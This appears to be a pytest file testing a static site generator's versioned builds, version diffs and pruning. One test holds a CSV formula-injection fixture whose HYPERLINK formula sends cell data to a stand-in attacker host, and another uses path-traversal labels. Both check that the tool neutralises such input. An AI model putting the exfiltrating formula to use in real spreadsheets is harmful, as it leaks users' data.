"""Versioned output (SPEC 7): three builds with the data changed between them, the manifest, the shared
assets, the data snapshot, the what-changed page, `versions list|diff|prune` and `[versions] keep`."""

from __future__ import annotations

import csv
import datetime as dt
import html as htmllib
import json
import re
import shutil

import duckdb
import pytest
from conftest import deals_site, run_cli
from versioning import (
    CREATED,
    DAY,
    assert_consistent,
    build,
    build_ok,
    files,
    git,
    git_repo,
    set_data,
    versioned_site,
    versions,
)

from gtmsite.components import Kpi
from gtmsite.versions import kpi_values

IDS = [DAY, f"{DAY}.2", f"{DAY}.3"]


@pytest.fixture(scope="module")
def three(tmp_path_factory):
    """A git-tracked site built three times, with data (and, the third time, a new page) changed between."""
    project = git_repo(versioned_site(tmp_path_factory.mktemp("three") / "site"))
    commits = []
    for step in range(3):
        set_data(project, step)
        if step == 2:
            (project / "reports" / "notes.md").write_text("---\ntitle: Notes\n---\n\n# Notes\n\nNothing yet.\n")
        git(project, "add", "-A")
        git(project, "commit", "-q", "--allow-empty", "-m", f"data {step}")
        commits.append(git(project, "rev-parse", "HEAD"))
        stdout = build_ok(project)
        assert f"version {IDS[step]} -> " in stdout
    return project, project / "build", commits


def test_manifest_lists_three_versions_newest_first_with_every_field(three):
    project, output, commits = three
    listed = versions(output)
    assert [v["id"] for v in listed] == IDS[::-1]
    for entry, commit, pages in zip(listed, commits[::-1], [3, 2, 2]):
        assert {"id", "label", "created", "git_commit", "data_fingerprint", "pages", "checks",
                "aliases"} <= set(entry)
        assert entry["created"] == CREATED
        assert dt.datetime.fromisoformat(entry["created"]).tzinfo is not None
        assert entry["label"]
        assert entry["git_commit"] == commit
        assert re.fullmatch(r"[0-9a-f]{8,}", entry["data_fingerprint"])
        assert entry["pages"] == pages
        assert entry["checks"] == {"passed": 1, "warned": 1, "failed": 0}
    assert len({v["data_fingerprint"] for v in listed}) == 3, "the data changed between every build"
    assert [v["aliases"] for v in listed] == [["latest"], [], []]


def test_layout_latest_redirect_and_shared_assets(three):
    _, output, _ = three
    assert_consistent(output)  # every version complete, latest/ == v/<newest>/, index.html -> latest/
    for vid in IDS:
        assert (output / "v" / vid / "index.html").is_file()
        assert (output / "v" / vid / "pipeline" / "index.html").is_file()
    assert not (output / "v" / IDS[0] / "notes").exists() and (output / "v" / IDS[2] / "notes").is_dir()
    redirect = (output / "index.html").read_text()
    assert re.search(r'http-equiv="refresh" content="0; ?url=latest/"', redirect), redirect
    assert 'href="latest/"' in redirect
    assets = sorted(p.name for p in (output / "_assets").iterdir())
    assert any(a.endswith(".css") for a in assets) and any(a.endswith(".js") for a in assets)
    assert all(re.search(r"\.[0-9a-f]{8,}\.", a) for a in assets), f"content-addressed names: {assets}"
    # three versions of an unchanged theme share one copy of each asset, and no version has its own
    assert len([a for a in assets if a.startswith("style.")]) == 1
    assert not list(output.glob("*/**/_assets"))
    page = (output / "v" / IDS[0] / "pipeline" / "index.html").read_text()
    assert re.search(r'href="/_assets/style\.[0-9a-f]+\.css"', page), "pages use the root's shared assets"


def test_data_snapshot_csv_and_parquet_per_version(three):
    _, output, _ = three
    expected = {0: [("1", "Acme", "Closed Won", "1200"), ("2", "Globex", "Proposal", "800"),
                    ("3", "Initech", "Closed Lost", "400"), ("4", "Umbrella", "Closed Won", "2200")],
                2: [("1", "Acme", "Closed Won", "1200"), ("2", "Globex", "Closed Won", "900"),
                    ("4", "Umbrella", "Closed Won", "2200"), ("5", "Hooli", "Closed Won", "3000")]}
    for step, rows in expected.items():
        data = output / "v" / IDS[step] / "_data"
        with open(data / "index" / "all_deals.csv", newline="") as handle:
            table = list(csv.reader(handle))
        assert table[0] == ["id", "account", "stage", "amount"]
        assert [tuple(r) for r in table[1:]] == rows
        parquet = duckdb.sql(f"select * from read_parquet('{data / 'index' / 'all_deals.parquet'}')")
        assert parquet.columns == ["id", "account", "stage", "amount"]
        assert [tuple(str(v) for v in r) for r in parquet.fetchall()] == rows
        stages = duckdb.sql(f"select stage, deals from read_parquet('{data / 'pipeline' / 'by_stage.parquet'}')")
        with open(data / "pipeline" / "by_stage.csv", newline="") as handle:
            assert [(s, str(d)) for s, d in stages.fetchall()] == [(r[0], r[1]) for r in list(csv.reader(handle))[1:]]


_VERDICT = {"good": "better", "bad": "worse", "neutral": ""}


def _html_changes(page: str) -> tuple[set, set, list[str]]:
    """(KPI rows, query rows, new page titles) from a _changes/index.html: a KPI row is (page, label, before,
    after, change, better/worse/""), a query row (page, query, rows before, after, added, removed, cells)."""
    kpis, queries = set(), set()
    for section in re.findall(r'<section class="change">(.*?)</section>', page, re.S):
        title = re.search(r"<h3><a [^>]*>(.*?)</a></h3>", section).group(1)
        for row in re.findall(r"<tr><td>(.*?)</td></tr>", section, re.S):
            row = re.sub(r' <span class="kpi-cause[^"]*">[^<]*</span>', "", row)  # why it moved: test_metrics.py
            cells = [htmllib.unescape(re.sub(r"<[^>]+>", "", c)).strip() for c in re.split(r"</td>\s*<td[^>]*>", row)]
            mood = re.search(r'class="gtm-delta (\w+) (\w+)"', row)
            kpis.add((title, *cells, _VERDICT[mood.group(2)] if mood else ""))
        for item, inner in re.findall(r"<li>query (.*?)(?:<ul class=\"cell-changes\">(.*?)</ul>)?</li>", section, re.S):
            text = htmllib.unescape(re.sub(r"<[^>]+>", "", item)).strip()
            name, before, after, added, removed = re.fullmatch(r"(\w+): (\d+) → (\d+) rows \(\+(\d+) / −(\d+)\)",
                                                               text).groups()
            cells = tuple(htmllib.unescape(re.sub(r"<[^>]+>", "", c)) for c in re.findall(r"<li>(.*?)</li>", inner))
            queries.add((title, name, int(before), int(after), int(added), int(removed), cells))
    new = re.findall(r"<h2>New pages</h2>\s*<ul>(.*?)</ul>", page, re.S)
    return kpis, queries, re.findall(r"<a [^>]*>(.*?)</a>", new[0]) if new else []


def _terminal_changes(text: str) -> tuple[set, set, list[str]]:
    kpis, queries, new, title, query = set(), set(), [], "", None
    for line in text.splitlines():
        if m := re.fullmatch(r"\+ page \S+ \((.*)\)", line):
            new.append(m.group(1))
        elif m := re.fullmatch(r"~ page \S+ \((.*)\)", line):
            title = m.group(1)
        elif m := re.fullmatch(r"    query (\w+): (\d+) -> (\d+) rows \(\+(\d+) / -(\d+)\)", line):
            query = [title, m.group(1), *map(int, m.groups()[1:]), ()]
            queries.add(tuple(query))
        elif m := re.fullmatch(r"      (.+): (.+) -> (.+)", line):
            queries.discard(tuple(query))
            query[-1] = (*query[-1], f"{m.group(1)}: {m.group(2)} → {m.group(3)}")
            queries.add(tuple(query))
        elif m := re.fullmatch(r"    (.+): (\S+) -> (\S+) \((\S+), (\S+)\)(?: (better|worse))?(?: \[[a-z ]+\])?", line):
            label, before, after, delta, relative, verdict = m.groups()
            kpis.add((title, label, before, after, f"{delta} ({relative})", verdict or ""))  # as the page writes it
    return kpis, queries, new


EXPECTED_2_TO_3 = (
    {("Home", "Won revenue", "$6,400", "$7,300", "+$900 (+14.1%)", "better"),
     ("Home", "Deals", "3", "4", "+1 (+33.3%)", "better")},
    {("Home", "all_deals", 5, 4, 1, 2, ()),  # Globex changed (a row added, one removed), Initech removed
     ("Home", "won", 1, 1, 1, 1, ()),  # both of its values are KPIs, shown above
     ("Pipeline", "by_stage", 3, 1, 1, 3, ())},
    ["Notes"],
)


def test_changes_page_and_versions_diff_show_the_same_numbers(three):
    project, output, _ = three
    page = (output / "v" / IDS[2] / "_changes" / "index.html").read_text()
    assert f"compared with the previous version <strong>{IDS[1]}</strong>" in page
    assert _html_changes(page) == EXPECTED_2_TO_3
    result = run_cli("versions", "diff", IDS[1], IDS[2], "--project", project)
    assert result.exit_code == 0, result.output
    assert result.stdout.splitlines()[0] == f"{IDS[1]} -> {IDS[2]}"
    assert _terminal_changes(result.stdout) == EXPECTED_2_TO_3
    assert "0 pages unchanged" in result.stdout
    # build 2 against build 1: one more won deal of 3000; "latest" names the newest version
    page = (output / "v" / IDS[1] / "_changes" / "index.html").read_text()
    kpis, queries, new = _html_changes(page)
    assert kpis == {("Home", "Won revenue", "$3,400", "$6,400", "+$3,000 (+88.2%)", "better"),
                    ("Home", "Deals", "2", "3", "+1 (+50.0%)", "better")}
    assert ("Home", "all_deals", 4, 5, 1, 0, ()) in queries and new == []
    assert _terminal_changes(run_cli("versions", "diff", IDS[0], IDS[1], "--project", project).stdout) == (
        kpis, queries, new)
    first = run_cli("versions", "diff", IDS[0], "--project", project)  # B defaults to latest
    assert ("Home", "Won revenue", "$3,400", "$7,300", "+$3,900 (+114.7%)", "better") in \
        _terminal_changes(first.stdout)[0]
    assert "is the first version" in (output / "v" / IDS[0] / "_changes" / "index.html").read_text()


def test_versions_diff_of_an_unknown_version_is_a_usage_error(three):
    project, _, _ = three
    result = run_cli("versions", "diff", "1999-01-01", IDS[0], "--project", project)
    assert result.exit_code == 2  # a mistake in the command's arguments, not in the site
    assert "no version '1999-01-01'" in result.stderr and IDS[0] in result.stderr


def test_every_page_links_its_changes_page(three):
    _, output, _ = three
    page = (output / "v" / IDS[2] / "pipeline" / "index.html").read_text()
    links = re.findall(r'href="([^"]*_changes/)"', page)
    assert links and all((output / "v" / IDS[2] / "pipeline" / link / "index.html").resolve().is_file()
                         for link in links)


def test_versions_list(three):
    project, _, commits = three
    result = run_cli("versions", "list", "--project", project)
    assert result.exit_code == 0, result.output
    lines = result.stdout.splitlines()
    assert [line.split()[0] for line in lines] == IDS[::-1]
    assert lines[0].endswith("[latest]") and "[latest]" not in "".join(lines[1:])
    assert "3 pages  checks 1/1/0" in lines[0] and f"git {commits[2][:10]}" in lines[0]
    assert CREATED in lines[2]


def test_versions_prune_keeps_the_newest(three, tmp_path):
    project, output, _ = three
    copy = tmp_path / "out"
    shutil.copytree(output, copy, symlinks=True)
    result = run_cli("versions", "prune", "--keep", "1", "--project", project, "--output", copy)
    assert result.exit_code == 0, result.output
    assert result.stdout.strip() == f"removed 2 version(s): {IDS[1]}, {IDS[0]}"
    assert [v["id"] for v in versions(copy)] == [IDS[2]]
    assert sorted(p.name for p in (copy / "v").iterdir()) == [IDS[2]]
    assert_consistent(copy)
    again = run_cli("versions", "prune", "--keep", "1", "--project", project, "--output", copy)
    assert again.stdout.strip() == "removed 0 version(s)"
    assert run_cli("versions", "prune", "--keep", "0", "--project", project, "--output", copy).exit_code == 2


def test_label_names_the_version(tmp_path):
    project = versioned_site(tmp_path / "site")
    build_ok(project)
    stdout = build_ok(project, "--label", "Q3 close")
    assert "version Q3-close -> " in stdout
    listed = versions(project / "build")
    assert [(v["id"], v["label"]) for v in listed][0] == ("Q3-close", "Q3 close")
    assert listed[1]["id"] == DAY
    build_ok(project, "--label", "Q3 close")  # the same label again gets a suffix
    assert [v["id"] for v in versions(project / "build")] == ["Q3-close.2", "Q3-close", DAY]
    assert_consistent(project / "build")


def test_keep_in_site_toml_prunes_the_oldest(tmp_path):
    project = versioned_site(tmp_path / "site")
    (project / "site.toml").write_text('[site]\ntitle = "Test Site"\n\n[versions]\nkeep = 2\n')
    for step in range(3):
        set_data(project, step)
        build_ok(project)
    output = project / "build"
    assert [v["id"] for v in versions(output)] == [IDS[2], IDS[1]]
    assert sorted(p.name for p in (output / "v").iterdir()) == [IDS[1], IDS[2]]
    assert_consistent(output)
    # the newest version was still compared with the one before it
    assert f"previous version <strong>{IDS[1]}</strong>" in (output / "latest" / "_changes" / "index.html").read_text()


def test_an_unchanged_rebuild_says_nothing_changed(tmp_path):
    project = versioned_site(tmp_path / "site")
    build_ok(project)
    build_ok(project)
    output = project / "build"
    page = (output / "latest" / "_changes" / "index.html").read_text()
    assert f"No changes: every page&#39;s query results and KPIs are the same as in {DAY}" in page or \
        f"No changes: every page's query results and KPIs are the same as in {DAY}" in page
    result = run_cli("versions", "diff", DAY, "latest", "--project", project)
    assert "no changes" in result.stdout
    # identical data: the two versions' data files are identical too
    first, second = files(output / "v" / DAY / "_data"), files(output / "v" / f"{DAY}.2" / "_data")
    assert first == second


def test_a_version_folder_is_never_rewritten(tmp_path):
    project = versioned_site(tmp_path / "site")
    build_ok(project)
    before = files(project / "build" / "v" / DAY)
    set_data(project, 1)
    build_ok(project)
    assert files(project / "build" / "v" / DAY) == before


def test_output_inside_the_project_folder_only(tmp_path):
    project = versioned_site(tmp_path / "site")
    result = build(project, "--output", project)
    assert result.exit_code == 2
    assert not (project / "versions.json").exists()


def test_a_label_with_slashes_dots_or_the_alias_latest_stays_one_folder_under_v(tmp_path):
    project = versioned_site(tmp_path / "site")
    for label in ("../../escape", "a/b", "..", "latest"):
        build_ok(project, "--label", label)
    assert [v["id"] for v in versions(project / "build")] == ["latest.2", DAY, "a-b", "escape"]
    assert sorted(p.name for p in (project / "build" / "v").iterdir()) == [DAY, "a-b", "escape", "latest.2"]
    assert not (tmp_path / "escape").exists()
    assert_consistent(project / "build")


def test_output_into_a_folder_of_other_files_is_refused_and_leaves_it_alone(tmp_path):
    project = versioned_site(tmp_path / "site")
    docs = tmp_path / "docs"
    (docs / "v" / "mine").mkdir(parents=True)
    (docs / "v" / "mine" / "notes.txt").write_text("keep me")
    (docs / "index.html").write_text("my page")
    result = build(project, "--output", docs)
    assert result.exit_code == 2
    assert result.stderr.startswith(f"--output: {docs} is not empty and holds no gtmsite site (index.html, v); ")
    assert (docs / "v" / "mine" / "notes.txt").read_text() == "keep me"
    assert (docs / "index.html").read_text() == "my page"
    assert sorted(p.name for p in docs.iterdir()) == ["index.html", "v"]
    # An empty folder, or one holding a gtmsite site, is fine.
    (tmp_path / "empty").mkdir()
    build_ok(project, "--output", tmp_path / "empty")
    build_ok(project, "--output", tmp_path / "empty")
    assert len(versions(tmp_path / "empty")) == 2


def test_output_that_is_a_file_is_a_usage_error(tmp_path):
    project = versioned_site(tmp_path / "site")
    (tmp_path / "afile").write_text("x")
    for target in (tmp_path / "afile", tmp_path / "afile" / "sub"):
        result = build(project, "--output", target)
        assert result.exit_code == 2
        assert result.stderr.strip() == (f"--output: expected a folder, but {tmp_path / 'afile'} is a file; "
                                         "choose another path")


def test_an_unreadable_versions_json_is_an_error_and_no_version_is_deleted(tmp_path):
    project = versioned_site(tmp_path / "site")
    build_ok(project)
    set_data(project, 1)
    build_ok(project)
    output = project / "build"
    (output / "versions.json").write_text('[{"id": "2026-11-18",')  # e.g. a bad hand edit or merge
    before = files(output / "v")
    result = build(project)
    assert result.exit_code == 1
    assert result.stderr.startswith(f"{output / 'versions.json'}: cannot read the list of versions (")
    assert files(output / "v") == before
    listed = run_cli("versions", "list", "--project", project)
    assert listed.exit_code == 1 and "cannot read the list of versions" in listed.stderr
    (output / "versions.json").write_text('[{"id": "../../x"}]')
    assert "expected a list of versions" in build(project).stderr
    assert files(output / "v") == before


def test_a_cell_larger_than_the_csv_field_limit_does_not_break_later_builds(tmp_path):
    """A cell over 131,072 characters: the next build compares with it (reading its CSV) and succeeds."""
    big = "x" * 200_000
    project = deals_site(tmp_path / "site", {
        "sources/notes.csv": f"id,note\n1,{big}\n",
        "reports/index.md": "```sql notes\nselect id, note, length(note) as n from notes\n```\n\n{{ table(notes) }}\n",
    })
    for step in range(3):
        (project / "sources" / "notes.csv").write_text(f"id,note\n1,{big}\n" + f"{step + 2},y\n" * step)
        result = run_cli("build", "--project", project)
        assert result.exit_code == 0, result.output
    diff = run_cli("versions", "diff", versions_of(project)[1], "--project", project)
    assert diff.exit_code == 0, diff.output
    assert "query notes: 2 -> 3 rows" in diff.stdout


def versions_of(project):
    return [v["id"] for v in json.loads((project / "build" / "versions.json").read_text())]


FORMULAS = """\
id,note,amount
1,"=HYPERLINK(""http://evil.example/?""&A1,""Click"")",-5
2,+1,3
3,-2+3,4
4,@SUM(A1),5
5,plain,-6
6,=1+1,7
"""


def test_csv_downloads_neutralise_formulas_and_what_changed_compares_raw_values(tmp_path):
    report = ("# Cells\n\n```sql cells\nselect id, note, amount from notes order by id\n```\n\n"
              "```sql controls\nselect chr(9) || 'tab' as t, chr(13) || 'cr' as r, '''=already' as q\n```\n\n"
              "{{ table(cells) }}\n\n{{ table(controls) }}\n")
    project = versioned_site(tmp_path / "site", {"sources/notes.csv": FORMULAS, "reports/cells.md": report})
    build_ok(project)
    data = project / "build" / "latest" / "_data" / "cells"
    with open(data / "cells.csv", newline="") as handle:
        table = list(csv.reader(handle))
    assert table == [["id", "note", "amount"],
                     ["1", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "-5"],  # numbers stay numbers
                     ["2", "'+1", "3"], ["3", "'-2+3", "4"], ["4", "'@SUM(A1)", "5"], ["5", "plain", "-6"],
                     ["6", "'=1+1", "7"]]
    with open(data / "controls.csv", newline="") as handle:
        assert list(csv.reader(handle))[1] == ["'\ttab", "'\rcr", "''=already"]
    parquet = duckdb.sql(f"select note from read_parquet('{data / 'cells.parquet'}') order by id").fetchall()
    assert parquet[0] == ('=HYPERLINK("http://evil.example/?"&A1,"Click")',)  # the snapshot keeps the raw data
    # A cell that changes from =1+1 to '=1+1 (raw values) is a change, though both downloads start with '=1+1.
    (project / "sources" / "notes.csv").write_text(FORMULAS.replace("6,=1+1,7", "6,'=1+1,7"), encoding="utf-8")
    build_ok(project)
    changes = (project / "build" / "latest" / "_changes" / "index.html").read_text()
    assert ("Cells", "cells", 6, 6, 1, 1, ()) in _html_changes(changes)[1]
    diff = run_cli("versions", "diff", DAY, "latest", "--project", project)
    assert ("Cells", "cells", 6, 6, 1, 1, ()) in _terminal_changes(diff.stdout)[1]


COSTS_MD = """\
---
title: Costs
---

```sql kpi
select sum(amount) / count(*) as cac, count(*) as deals from deals
```

{{ big_value(kpi, "cac", title="CAC", fmt="usd0", down_is_good=true) }}

CAC is {{ value(kpi, "cac", fmt="usd0") }} over {{ value(kpi, "deals") }} deals.
"""

CHANNEL_MD = """\
---
pages: select distinct channel from deals order by 1
---

# {{ params.channel }}

```sql c
select count(*) as deals, (select count(*) from deals) as all_deals from deals where channel = $channel
```

{{ big_value(c, "deals", title="Deals") }} of {{ c.first.all_deals }}.
"""


def test_what_changed_shows_every_kpi_once_coloured_by_whether_its_move_is_good(tmp_path):
    project = deals_site(tmp_path / "site", {"reports/index.md": COSTS_MD, "reports/channels/[channel].md": CHANNEL_MD})
    build_ok(project)
    set_data(project, 1)  # one more won deal: 3,000 from Organic
    build_ok(project)
    page = (project / "build" / "latest" / "_changes" / "index.html").read_text()
    expected = (
        {("Costs", "CAC", "$1,150", "$1,520", "+$370 (+32.2%)", "worse"),  # a rise in a cost is bad news
         ("Costs", "Deals", "4", "5", "+1 (+25.0%)", "better"),
         ("Organic", "Deals", "1", "2", "+1 (+100.0%)", "better")},
        {("Costs", "kpi", 1, 1, 1, 1, ()),  # its values are the KPIs above
         ("Organic", "c", 1, 1, 1, 1, ("all_deals: 4 → 5",)),
         ("Paid Search", "c", 1, 1, 1, 1, ("all_deals: 4 → 5",)),  # a templated page whose KPI did not move
         ("Partner", "c", 1, 1, 1, 1, ("all_deals: 4 → 5",))},
        [],
    )
    assert _html_changes(page) == expected
    costs = re.search(r'<section class="change">\s*<h3><a [^>]*>Costs</a>.*?</section>', page, re.S).group(0)
    assert costs.count("<tr><td>") == 2 and 'class="gtm-delta up bad"' in costs
    diff = run_cli("versions", "diff", DAY, "latest", "--project", project)
    assert _terminal_changes(diff.stdout) == expected
    assert "    CAC: $1,150 -> $1,520 (+$370, +32.2%) worse [data changed]" in diff.stdout.splitlines()


def test_kpis_are_listed_once_but_two_tiles_stay_two():
    kpis = [Kpi("big_value", "q3", "deals", 5, None, "Q3 deals"), Kpi("big_value", "q4", "deals", 5, None, "Q4 deals"),
            Kpi("value", "q3", "deals", 5, None, "Deals"),  # repeats the first tile
            Kpi("value", "east", "cac", 7, "usd0", "CAC"), Kpi("value", "west", "cac", 7, "usd0", "CAC"),
            Kpi("big_value", "tile", "cac", 7, "usd0", "Blended CAC", down_is_good=True),  # both values repeat it
            Kpi("value", "x", "n", 1, None, "N"), Kpi("value", "y", "n", 2, None, "N")]
    assert [(k.label, k.key, k.down_is_good) for k in kpi_values(kpis)] == [
        ("Q3 deals", "big_value q3.deals", None), ("Q4 deals", "big_value q4.deals", None),  # None: not said
        ("Blended CAC", "big_value tile.cac", True), ("N (x)", "value x.n", None), ("N (y)", "value y.n", None)]
